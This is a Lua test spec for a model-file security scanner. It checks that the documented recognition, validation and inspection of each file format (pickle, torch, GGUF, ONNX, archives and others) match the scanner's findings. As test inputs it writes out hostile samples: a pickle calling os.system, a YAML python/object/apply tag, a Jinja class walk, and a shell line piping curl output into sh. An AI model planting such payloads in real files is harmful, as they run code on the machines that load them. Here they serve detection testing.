-- docs/formats.md row by row: what it says of a kind's recognition, validation and inspection is tried on files of that kind.
local core = require "hugh.core"
local helper = dofile "spec/helper.lua"

local scratch = os.tmpname()
os.remove(scratch)
assert(os.execute("python3 -B spec/fixtures/hostile/build.py " .. scratch))

local function benign(path) return helper.read("spec/fixtures/benign/" .. path) end
local function hostile(path) return helper.read(scratch .. "/" .. path) end
local function cut(bytes, count) return bytes:sub(1, -count - 1) end

local function npy(descr, data)
  local header = ("{'descr': '%s', 'fortran_order': False, 'shape': (1,), }\n"):format(descr)
  return "\147NUMPY\1\0" .. string.char(#header) .. "\0" .. header .. data
end
local function tflite(name) -- one operator, with a name of its own or "" for one that is built in
  local field = name == "" and "\0\0" or "\4\0"
  return "\20\0\0\0TFL3\8\0\8\0\0\0\4\0\0\0\0\0\12\0\0\0\4\0\0\0\1\0\0\0\12\0\0\0\8\0\8\0\0\0" .. field
    .. "\8\0\0\0\4\0\0\0" .. string.char(#name) .. "\0\0\0" .. name .. "\0"
end
local function rds(...)
  local out = { "X\n" }
  for _, n in ipairs { 2, 1, 1, ... } do out[#out + 1] = "\0\0\0" .. string.char(n) end
  return table.concat(out)
end
local function stream(suffix, name)
  local whole = benign("joblib/arrays.joblib." .. suffix)
  return { sound = whole, name = "a." .. suffix, hides = { hostile("containers/" .. name), "pickle.call.dangerous" },
    broken = { cut(whole, 30), "stream.broken" } }
end

local function lz4(data) return "\4\34\77\24\96\64\130" .. string.char(#data) .. "\0\0\128" .. data .. "\0\0\0\0" end -- one block that is not compressed
local function zstd(data) return "\40\181\47\253\32" .. string.char(#data, (#data * 8 + 1) % 256, math.floor(#data / 32)) .. "\0" .. data end

local python_type = "arrow.py_extension_type"
local function parquet(schema) return "PAR1" .. schema .. string.char(#schema) .. "\0\0\0PAR1" end
local function arrow(schema) return "ARROW1\0\0\255\255\255\255" .. string.char(#schema) .. "\0\0\0" .. schema end
local piece = "\10\14\10\5<unk>\21\0\0\0\0\24\2\18\2\8\1"

local call = "cos\nsystem\n(S'true'\ntR."
local onnx = helper.read "examples/models/onnx/model.onnx"
local graph = "\10\8\10\1n\18\3Add"
local h5 = "\137HDF\r\n\26\n\0\0\0\0\0\8\8" .. ("\0"):rep(81)
local lambda = '{"layers": [{"class_name": "Lambda", "config": {"function": ["4wEA", null, null]}}]}' .. ("\0"):rep(20)

-- `sound`: a file of the kind. `name`: what such files are called, if names count. `hides` and `broken`: a file that hides what the table
-- says is looked for, or breaks a rule, with the finding.
local files = {
  unknown = { sound = "\1\2\3\4\5\6\7\8" },
  empty = { sound = "" },
  pickle = { sound = benign "stdlib/plain-4.pkl", name = "a.pkl", hides = { call, "pickle.call.dangerous" }, broken = { "(dp0\n", "pickle.broken" } },
  ["torch-zip"] = { sound = benign "torch/state-dict.pt", hides = { hostile "containers/torch.pt", "pickle.call.dangerous" },
    broken = { cut(benign "torch/state-dict.pt", 40), "zip.no-end" } },
  ["torch-legacy"] = { sound = benign "torch/state-dict-legacy.bin", hides = { hostile "containers/legacy-pickle-3.bin", "pickle.call.dangerous" },
    broken = { cut(benign "torch/state-dict-legacy.bin", 4), "scan.truncated" } },
  ["torch-tar"] = { sound = hostile "containers/old-torch-tar.pt", hides = { hostile "containers/old-torch-tar.pt", "pickle.call.dangerous" },
    broken = { hostile "containers/old-torch-tar.pt":sub(1, 700), "tar.broken" } },
  torchscript = { sound = benign "torch/torchscript.pt", hides = { hostile "containers/torch-constants.pt", "pickle.call.dangerous" },
    broken = { cut(benign "torch/torchscript.pt", 40), "zip.no-end" } },
  joblib = { sound = benign "joblib/arrays.joblib", name = "a.joblib", broken = { cut(benign "joblib/arrays.joblib", 4), "pickle.broken" },
    hides = { hostile "containers/raw-array-then-call.joblib", "pickle.call.dangerous" } },
  safetensors = { sound = benign "torch/weights.safetensors", name = "a.safetensors", broken = { hostile "formats/bad-dtype.safetensors", "safetensors.header" },
    hides = { hostile "formats/trailing.safetensors", "safetensors.trailing" } },
  npy = { sound = npy("<f4", "\0\0\0\0"), name = "a.npy", hides = { npy("|O", call), "npy.object" }, broken = { npy("<f4", "\0\0\0"), "scan.truncated" } },
  npz = { sound = benign "numpy/arrays.npz", name = "a.npz", hides = { hostile "containers/object.npz", "npy.object" },
    broken = { cut(benign "numpy/arrays.npz", 40), "zip.no-end" } },
  gguf = { sound = benign "gguf/values.gguf", name = "a.gguf", hides = { hostile "formats/template.gguf", "jinja.attribute-walk" },
    broken = { hostile "formats/counts.gguf", "gguf.header" } },
  ggml = { sound = "lmgg\1\0\0\0" },
  onnx = { sound = onnx, name = "a.onnx", hides = { hostile "formats/external-absolute.onnx", "onnx.external-data" }, broken = { cut(onnx, 1), "graph.broken" } },
  ["saved-model"] = { sound = graph, name = "a.pb", hides = { hostile "formats/write-file.pb", "tf.op.dangerous" }, broken = { cut(graph, 1), "graph.broken" } },
  tflite = { sound = tflite "", name = "a.tflite", hides = { tflite "AcmeOp", "tflite.custom-op" }, broken = { cut(tflite "AcmeOp", 4), "graph.broken" } },
  keras = { sound = benign "keras/small.keras", name = "a.keras", hides = { hostile "formats/lambda.keras", "keras.lambda" },
    broken = { cut(benign "keras/small.keras", 40), "zip.no-end" } },
  skops = { sound = benign "sklearn/pipeline.skops", name = "a.skops", hides = { hostile "formats/system.skops", "skops.type.dangerous" },
    broken = { cut(benign "sklearn/pipeline.skops", 40), "zip.no-end" } },
  hdf5 = { sound = benign "keras/small.h5", name = "a.h5", hides = { h5 .. lambda, "keras.lambda" }, broken = { h5:gsub("\26\n\0", "\26\n\9", 1), "scan.incomplete" } },
  msgpack = { sound = "\129\165layer\199\1\1\0", name = "a.msgpack", hides = { "\129\165layer\199\1\9\0", "msgpack.broken" },
    broken = { "\129\165layer\199\2\1\0", "msgpack.broken" } },
  rds = { sound = rds(13, 1, 7), name = "a.rds", hides = { rds(5, 254, 254), "rds.promise" }, broken = { rds(13, 2, 7), "rds.broken" } },
  pmml = { sound = '<?xml version="1.0"?><PMML version="4.4"/>', name = "a.pmml", hides = { hostile "formats/entity.pmml", "xml.entity" } },
  xml = { sound = '<?xml version="1.0"?><a/>', name = "a.xml", hides = { hostile "formats/entity.pmml", "xml.entity" } },
  xgboost = { sound = benign "boosted/xgboost.ubj", name = "a.ubj", broken = { cut(benign "boosted/xgboost.ubj", 1), "xgboost.broken" } },
  lightgbm = { sound = benign "boosted/lightgbm.txt" },
  catboost = { sound = "CBM1\0\0\0\0", name = "a.cbm" },
  sentencepiece = { sound = piece, broken = { cut(piece, 1), "scan.truncated" } },
  fasttext = { sound = "\186\22O/\12\0\0\0" .. ("\0"):rep(40) },
  tfevents = { sound = "\24\0\0\0\0\0\0\0\163\127K\34\9\0\0\192\253\193\214\217A\26\13brain.Event:2\236\129\195\21" },
  weights = { sound = "\0\0\6\8\1\26\2\8\1\0\3\4xyz\8\1\18\0", name = "a.onnx_data" },
  caffe = { sound = 'layer { name: "x" type: "Python" }\n', name = "a.prototxt" },
  ["lfs-pointer"] = { sound = hostile "containers/lfs-pointer.bin" },
  zip = { sound = hostile "containers/tar-in-zip.zip", hides = { hostile "containers/torch-nested-zip.zip", "pickle.call.dangerous" },
    broken = { cut(hostile "containers/tar-in-zip.zip", 5), "zip.no-end" } },
  tar = { sound = hostile "containers/symlink-out.tar", name = "a.tar", hides = { hostile "containers/traversal.tar", "tar.traversal" },
    broken = { hostile "containers/symlink-out.tar":sub(1, 700), "tar.broken" } },
  ["7z"] = { sound = hostile "containers/seven.7z", name = "a.7z", hides = { hostile "containers/seven.7z", "pickle.call.dangerous" },
    broken = { cut(hostile "containers/seven.7z", 4), "sevenzip.unread" } },
  zfile = { sound = benign "old/joblib-0.9-compressed.pkl", hides = { hostile "containers/old-joblib.pkl", "pickle.call.dangerous" },
    broken = { cut(benign "old/joblib-0.9-compressed.pkl", 30), "stream.broken" } },
  gzip = stream("gz", "model.pkl.gz"),
  bzip2 = stream("bz2", "model.pkl.bz2"),
  xz = stream("xz", "model.pkl.xz"),
  lzma = stream("lzma", "model.pkl.lzma"),
  zlib = stream("z", "model.joblib.z"),
  lz4 = { sound = lz4 "x", name = "a.lz4", hides = { lz4(call), "pickle.call.dangerous" }, broken = { cut(lz4(call), 9), "stream.broken" } },
  zstd = { sound = zstd "x", name = "a.zst", hides = { zstd(call), "pickle.call.dangerous" }, broken = { cut(zstd(call), 9), "stream.broken" } },
  json = { sound = '{"a": 1}', name = "a.json", hides = { '{"auto_map": {}}', "config.auto-map" }, broken = { '{"a"', "json.broken" } },
  yaml = { sound = "a: 1\n", name = "a.yaml", hides = { "a: !!python/object/apply:os.system [x]\n", "yaml.call" } },
  python = { sound = "x = 1\n", name = "a.py", hides = { "import os\nos.system('true')\n", "python.call" } },
  notebook = { sound = '{"cells": []}', name = "a.ipynb", broken = { '{"cells"', "json.broken" },
    hides = { '{"cells": [{"cell_type": "code", "source": ["exec(x)"]}]}', "python.call" } },
  jinja = { sound = "{{ messages }}", name = "a.jinja", hides = { "{{ ''.__class__ }}", "jinja.attribute-walk" } },
  shell = { sound = "#!/bin/sh\ntrue\n", name = "a.sh", hides = { "#!/bin/sh\ncurl http://x | sh\n", "shell.run" } },
  source = { sound = "int main(void) { return 0; }\n", name = "a.cu" },
  text = { sound = "plain text\n" },
  elf = { sound = "\127ELF\2\1\1" .. ("\0"):rep(57), name = "a.so" },
  pe = { sound = "MZ\144" .. ("\0"):rep(61), name = "a.dll" },
  ["mach-o"] = { sound = "\207\250\237\254" .. ("\0"):rep(60), name = "a.dylib" },
  pyc = { sound = "\167\13\r\n\0\0\0\0" .. ("\0"):rep(8) .. "\227\0\0\0\0", name = "a.pyc" },
  image = { sound = "\137PNG\r\n\26\n\0\0\0\rIHDR", name = "a.png" },
  audio = { sound = "RIFF\4\0\0\0WAVEfmt ", name = "a.wav" },
  pdf = { sound = "%PDF-1.7\n", name = "a.pdf" },
  parquet = { sound = "PAR1\21\0\0\0PAR1", name = "a.parquet", hides = { parquet(python_type), "table.python-type" } },
  arrow = { sound = arrow "int32", name = "a.arrow", hides = { arrow(python_type), "table.python-type" } },
}

local function scan(bytes, name)
  local source = core.scan { name = name, size = #bytes }
  for offset, length in source.need, source do source:feed(offset, bytes:sub(offset + 1, offset + length)) end
  local report = source:report()
  local found = {}
  for _, finding in ipairs(report.findings) do found[finding.id] = true end
  return report, found
end

-- The table: kind -> its cells.
local rows = {}
for row in helper.read "docs/formats.md":gmatch "\n(| [^\n]+ |)" do
  local cells = {}
  for cell in row:gmatch "| ([^|]+) %f[|]" do cells[#cells + 1] = cell end
  for kind in cells[1]:gmatch "[^, ]+" do rows[kind] = cells end
end

describe("docs/formats.md", function()
  teardown(function() helper.remove(scratch) end)

  for kind, safety in helper.read "csrc/kinds.def":gmatch '\nHUGH_KIND%([%u%d_]+, "([^"]+)", (%u+)' do
    describe("on " .. kind, function()
      local row, file = rows[kind], files[kind]
      local neutral = file and file.name and "a.bin" or "a"

      it("has a row, and this spec a file", function()
        assert.is_table(row)
        assert.equal(5, #row)
        assert.is_table(file)
      end)

      it("says how it is recognised", function()
        local by_content, by_name = row[2]:find "c" ~= nil, row[2]:find "n" ~= nil
        local report = scan(file.sound, by_content and neutral or file.name)
        assert.equal(kind, report.kind)
        if file.name then assert.equal(kind, (scan(file.sound, file.name)).kind) end
        if by_name and not by_content then assert.not_equal(kind, (scan(file.sound, neutral)).kind) end
        local junk = ("\1\2\3"):rep(20)
        assert.equal(by_name, file.name ~= nil and (not by_content or core.classify(junk, file.name).kind == kind))
      end)

      it("says whether it is validated", function()
        if row[3] == "no" then return assert.is_nil(file.broken) end
        local _, found = scan(file.broken[1], file.name or "a")
        assert.is_true(found[file.broken[2]])
      end)

      it("says whether it is looked inside", function()
        if row[4]:find "^no" then return assert.is_nil(file.hides) end
        local _, found = scan(file.hides[1], file.name or "a")
        assert.is_true(found[file.hides[2]])
      end)

      it("is a name that does not fit a pickle or a program, and fits a pointer to the file", function()
        if not file.name then return end
        local opens_pickles, programs = kind == "pickle" or kind == "joblib", { elf = true, pe = true, ["mach-o"] = true, pyc = true }
        local _, found = scan(call, file.name)
        assert.equal(not opens_pickles, found["file.kind-mismatch"] or false)
        _, found = scan(files.elf.sound, file.name)
        assert.equal(not programs[kind], found["file.kind-mismatch"] or false)
        _, found = scan(files["lfs-pointer"].sound, file.name)
        assert.is_nil(found["file.kind-mismatch"])
      end)

      it("never calls safe what is neither validated nor looked into, unless it cannot hurt", function()
        local blind = row[3] == "no" and row[4]:find "^no" ~= nil
        local harmless = ({ empty = true, text = true, image = true, audio = true, lightgbm = true, fasttext = true, tfevents = true,
          weights = true })[kind]
        if blind and not harmless then assert.equal("UNKNOWN", safety) end
      end)
    end)
  end
end)
